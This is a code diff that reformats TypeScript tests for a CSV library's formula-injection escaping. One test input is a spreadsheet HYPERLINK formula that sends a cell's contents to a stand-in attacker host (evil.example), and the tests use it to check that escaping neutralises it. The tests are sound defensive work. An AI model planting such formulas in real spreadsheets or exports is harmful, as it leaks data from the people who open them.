@@ -8,7 +8,11 @@ async function* chunksOf(text: string, size: number): AsyncGenerator<string> {
 
 async function read(text: string, chunkSize = text.length || 1, maxRecordChars?: number): Promise<CsvRecord[]> {
   const records: CsvRecord[] = [];
-  for await (const record of readCsvRecords(chunksOf(text, chunkSize), maxRecordChars === undefined ? {} : { maxRecordChars })) records.push(record);
+  for await (const record of readCsvRecords(
+    chunksOf(text, chunkSize),
+    maxRecordChars === undefined ? {} : { maxRecordChars },
+  ))
+    records.push(record);
   return records;
 }
 
@@ -87,7 +91,8 @@ describe('reading', () => {
     const readAll = async (text: string, chunkSize: number, limit: number) => {
       const records: CsvRecord[] = [];
       try {
-        for await (const record of readCsvRecords(chunksOf(text, chunkSize), { maxRecordChars: limit })) records.push(record);
+        for await (const record of readCsvRecords(chunksOf(text, chunkSize), { maxRecordChars: limit }))
+          records.push(record);
         return { records };
       } catch (error) {
         return { records, error: error as CsvSyntaxError };
@@ -139,7 +144,22 @@ describe('cells a spreadsheet would run as a formula', () => {
   const formulaStart = /^[=+\-@\t\r]/;
 
   it('are written with a leading quote, and so is a cell that starts with a quote; other cells are untouched', () => {
-    const values = ['=1+1', '+33 1', '-1', '@SUM(A1)', '\tx', '\rx', "'quoted", "''", 'plain', '', 'a=b', ' =1', '2024-05-01T12:00:00.000Z', 'true'];
+    const values = [
+      '=1+1',
+      '+33 1',
+      '-1',
+      '@SUM(A1)',
+      '\tx',
+      '\rx',
+      "'quoted",
+      "''",
+      'plain',
+      '',
+      'a=b',
+      ' =1',
+      '2024-05-01T12:00:00.000Z',
+      'true',
+    ];
     expect(values.map(escapeFormula)).toEqual([
       "'=1+1",
       "'+33 1",
@@ -159,13 +179,33 @@ describe('cells a spreadsheet would run as a formula', () => {
   });
 
   it('never start a written cell, and read back into exactly the values written', async () => {
-    const values = ['=HYPERLINK("https://evil.example/?leak="&B2,"More info")', '+1', '-1', '@x', '\t=1', '\r=1', "'", "'=1", "''x", 'plain', '', 'x=1'];
+    const values = [
+      '=HYPERLINK("https://evil.example/?leak="&B2,"More info")',
+      '+1',
+      '-1',
+      '@x',
+      '\t=1',
+      '\r=1',
+      "'",
+      "'=1",
+      "''x",
+      'plain',
+      '',
+      'x=1',
+    ];
     const [record] = await read(csvLine(values));
     expect(record!.fields.filter((cell) => formulaStart.test(cell))).toEqual([]);
     expect(record!.fields.map(unescapeFormula)).toEqual(values);
   });
 
   it('unescaping takes exactly one leading quote off, and nothing else', () => {
-    expect(["'=1", "''x", "'", 'plain', "it's", ''].map(unescapeFormula)).toEqual(['=1', "'x", '', 'plain', "it's", '']);
+    expect(["'=1", "''x", "'", 'plain', "it's", ''].map(unescapeFormula)).toEqual([
+      '=1',
+      "'x",
+      '',
+      'plain',
+      "it's",
+      '',
+    ]);
   });
 });
